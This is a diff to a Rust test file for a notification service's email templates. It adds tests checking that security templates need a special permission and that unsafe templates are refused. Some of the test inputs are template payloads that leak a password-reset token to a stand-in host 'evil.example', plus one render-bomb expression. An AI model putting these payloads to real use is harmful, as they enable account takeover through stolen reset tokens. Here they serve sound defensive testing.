@@ -8,6 +8,7 @@ use serde_json::json;
 use crate::support::*;
 
 const WELCOME: &str = "/notifications/templates/welcome";
+const ORDER: &str = "/notifications/templates/order_confirmation";
 
 type Response = lambda_http::Response<lambda_http::Body>;
 
@@ -41,20 +42,20 @@ fn ok_body(r: &Response) -> serde_json::Value {
 async fn templates_are_read_as_default_until_a_custom_one_is_put() {
     let app = TestApp::spawn().await;
     let admin = admin();
-    let body = ok_body(&get_template(&app, WELCOME, Some(&admin)).await);
+    let body = ok_body(&get_template(&app, ORDER, Some(&admin)).await);
     assert_eq!(body["source"], "default");
-    assert_eq!(body["name"], "welcome");
-    assert_eq!(body["subject"], "Welcome to Bazaar");
+    assert_eq!(body["name"], "order_confirmation");
+    assert_eq!(body["subject"], "Your Bazaar order {{ order_id }} is confirmed");
 
     let custom = json!({ "subject": "Hello {{ email }}", "text": "t", "html": "<p>{{ email }}</p>", "sms": "s" });
-    let put = ok_body(&put_template(&app, WELCOME, Some(&custom.to_string()), Some(&admin)).await);
+    let put = ok_body(&put_template(&app, ORDER, Some(&custom.to_string()), Some(&admin)).await);
     assert_eq!(put["source"], "custom");
-    let body = body_json(&get_template(&app, WELCOME, Some(&admin)).await);
+    let body = body_json(&get_template(&app, ORDER, Some(&admin)).await);
     assert_eq!(body["source"], "custom");
     assert_eq!(body["subject"], "Hello {{ email }}");
     assert_eq!(body["html"], "<p>{{ email }}</p>");
     // Other templates keep their default.
-    let other = body_json(&get_template(&app, "/notifications/templates/order_cancelled", Some(&admin)).await);
+    let other = body_json(&get_template(&app, WELCOME, Some(&admin)).await);
     assert_eq!(other["source"], "default");
 }
 
@@ -100,11 +101,12 @@ async fn preferences_default_to_email_only_and_are_the_callers_own() {
     let ana = customer(&uuid::Uuid::new_v4().to_string(), &unique_email());
     let bob = customer(&uuid::Uuid::new_v4().to_string(), &unique_email());
     let defaults = ok_body(&get_preferences(&app, Some(&ana)).await);
-    assert_eq!(defaults, json!({ "email": true, "sms": false, "phone_number": null }));
+    assert_eq!(defaults, json!({ "email": true, "sms": false, "phone_number": null, "phone_verified": false }));
 
-    app.set_preferences(&ana, json!({ "email": false, "sms": true, "phone_number": "+4915112345678" })).await;
+    let phone = unique_phone();
+    app.set_preferences(&ana, json!({ "email": false, "sms": true, "phone_number": phone })).await;
     let anas = body_json(&get_preferences(&app, Some(&ana)).await);
-    assert_eq!(anas, json!({ "email": false, "sms": true, "phone_number": "+4915112345678" }));
+    assert_eq!(anas, json!({ "email": false, "sms": true, "phone_number": phone, "phone_verified": false }));
     assert_eq!(body_json(&get_preferences(&app, Some(&bob)).await)["sms"], false, "bob is unaffected");
     assert_problem(&get_preferences(&app, None).await, 401);
 }
@@ -138,7 +140,8 @@ async fn the_delivery_log_is_the_callers_own_newest_first_and_paged() {
     let start = chrono::Utc::now() - chrono::Duration::minutes(10);
     let bodies: Vec<String> = (0..3)
         .map(|i| {
-            let data = UserRegistered { user_id: user_id.clone(), email: email.clone(), roles: vec![] };
+            let data =
+                UserRegistered { user_id: user_id.clone(), email: email.clone(), roles: vec![], verification: None };
             delivered_body(&Envelope::at(data, "corr", start + chrono::Duration::minutes(i)))
         })
         .collect();
@@ -175,4 +178,73 @@ async fn the_delivery_log_is_the_callers_own_newest_first_and_paged() {
     let bad_limit = request("GET", "/notifications", Some(("limit", "0")), None, Some(&me));
     assert_problem(&notifications_list::handler(&list, bad_limit).await, 400);
     assert_problem(&notifications_list::handler(&list, request("GET", "/notifications", None, None, None)).await, 401);
+}
+
+const RESET: &str = "/notifications/templates/password_reset";
+
+#[tokio::test]
+async fn a_security_template_needs_its_own_permission() {
+    let app = TestApp::spawn().await;
+    let editor = template_editor();
+    let reset = json!({ "subject": "Reset", "text": "Open {{ reset_url }}" }).to_string();
+    let verification = json!({ "subject": "Verify", "text": "Open {{ verification_url }}" }).to_string();
+    let welcome = json!({
+        "subject": "Hi",
+        "text": "Hello {{ email }}{% if verification_url is defined %}, confirm: {{ verification_url }}{% endif %}",
+    })
+    .to_string();
+    let security =
+        [(RESET, &reset), ("/notifications/templates/email_verification", &verification), (WELCOME, &welcome)];
+    for (path, body) in security {
+        assert_problem(&put_template(&app, path, Some(body), Some(&editor)).await, 403);
+        assert_eq!(body_json(&get_template(&app, path, Some(&admin())).await)["source"], "default", "{path}");
+    }
+    // The editor still changes the other templates; an admin changes the security ones.
+    let order = json!({ "subject": "Hi", "text": "Order {{ order_id }}" }).to_string();
+    assert_eq!(put_template(&app, ORDER, Some(&order), Some(&editor)).await.status(), 200);
+    for (path, body) in security {
+        let r = put_template(&app, path, Some(body), Some(&admin())).await;
+        assert_eq!(r.status(), 200, "{path}: {}", text(&r));
+    }
+}
+
+#[tokio::test]
+async fn a_security_template_whose_links_leave_the_reset_page_is_refused() {
+    let app = TestApp::spawn().await;
+    let page = deps!(app, notifications_templates_put).pages.password_reset;
+    for (text, html) in [
+        ("Open https://evil.example/steal?{{ reset_url }}", None),
+        ("Open //evil.example/{{ reset_url }}", None),
+        ("Open {{ reset_url }}", Some("<a href=\"https://evil.example/?t={{ reset_url }}\">Reset</a>")),
+        ("Open {{ reset_url }}", Some("<img src=\"//evil.example/pixel\">")),
+        ("Open {{ reset_url | replace('127.0.0.1:3000', 'evil.example') }}", None),
+        ("Ask us for a new password.", None),
+    ] {
+        let mut body = json!({ "subject": "Reset", "text": text });
+        if let Some(html) = html {
+            body["html"] = json!(html);
+        }
+        let r = put_template(&app, RESET, Some(&body.to_string()), Some(&admin())).await;
+        assert_problem(&r, 422);
+        assert_eq!(body_json(&r)["errors"][0]["field"], if html.is_some() { "html" } else { "text" }, "{body}");
+    }
+    assert_eq!(body_json(&get_template(&app, RESET, Some(&admin())).await)["source"], "default");
+    let fine =
+        json!({ "subject": "Reset", "text": "Open {{ reset_url }}", "html": "<a href=\"{{ reset_url }}\">x</a>" });
+    let r = put_template(&app, RESET, Some(&fine.to_string()), Some(&admin())).await;
+    assert_eq!(r.status(), 200, "{} (page {page})", text(&r));
+}
+
+#[tokio::test]
+async fn a_template_that_runs_too_long_or_renders_too_much_is_refused() {
+    let app = TestApp::spawn().await;
+    for (body, field) in [
+        (json!({ "subject": "s", "text": RUNAWAY }), "text"),
+        (json!({ "subject": "s", "text": "t", "html": "{{ 'x' * 1000000 }}" }), "html"),
+    ] {
+        let r = put_template(&app, WELCOME, Some(&body.to_string()), Some(&admin())).await;
+        assert_problem(&r, 422);
+        assert_eq!(body_json(&r)["errors"][0]["field"], field, "{body}");
+    }
+    assert_eq!(body_json(&get_template(&app, WELCOME, Some(&admin())).await)["source"], "default");
 }
